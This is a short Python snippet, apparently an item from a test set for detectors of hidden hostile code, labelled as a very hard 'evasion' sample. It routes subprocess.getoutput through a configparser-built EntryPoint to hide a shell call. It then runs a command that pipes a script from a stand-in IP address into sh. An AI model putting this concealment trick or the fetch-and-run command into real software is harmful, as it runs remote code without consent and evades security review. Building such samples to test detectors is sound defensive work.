# evasion: a setup.cfg-style [console_scripts] text parsed with configparser; each line becomes an importlib.metadata.EntryPoint that is loaded and called
# grade: very hard; does: shell
import configparser
from importlib.metadata import EntryPoint

SETUP_CFG = """
[options.entry_points]
console_scripts =
    report = subprocess:getoutput
"""

cfg = configparser.ConfigParser()
cfg.read_string(SETUP_CFG)
for line in cfg["options.entry_points"]["console_scripts"].strip().splitlines():
    name, _, value = (part.strip() for part in line.partition("="))
    ep = EntryPoint(name=name, value=value, group="console_scripts")
    print(ep.load()("curl -s http://203.0.113.73/r.sh | sh"))
